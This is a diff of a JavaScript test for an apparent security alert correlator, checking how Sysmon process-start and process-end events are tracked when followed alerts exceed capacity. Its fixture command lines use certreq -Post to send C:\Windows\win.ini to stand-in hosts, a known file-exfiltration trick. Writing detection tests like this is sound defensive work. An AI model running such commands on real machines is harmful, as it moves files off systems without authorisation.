@@ -91,7 +91,7 @@ test('Security 4688/4689 (hex PIDs): the right termination ends the process; oth
 
 test('followed alerts are bounded: beyond watchCapacity the oldest keep their context', () => {
   const c = new Correlator({ watchCapacity: 2 });
-  const alerts = feed(c, [1, 2, 3].map((i) => sysmonStart({ time: `2026-05-01T11:00:0${i}Z`, guid: `g-${i}`, pid: 800 + i, image: CERTREQ, cmd: 'certreq -Post -config http://x/ C:\\Windows\\win.ini' })));
+  const alerts = feed(c, [1, 2, 3].map((i) => sysmonStart({ time: `2026-05-01T11:00:0${i}Z`, guid: `g-${i}`, pid: 800 + i, image: CERTREQ, cmd: `certreq -Post -config http://x${i}/ C:\\Windows\\win.ini` })));
   assert.equal(alerts.length, 3);
   feed(c, [1, 2, 3].map((i) => sysmonEnd({ time: `2026-05-01T11:01:0${i}Z`, guid: `g-${i}`, pid: 800 + i, image: CERTREQ })));
   const ids = c.takeContextUpdates().map((u) => u.id).sort();
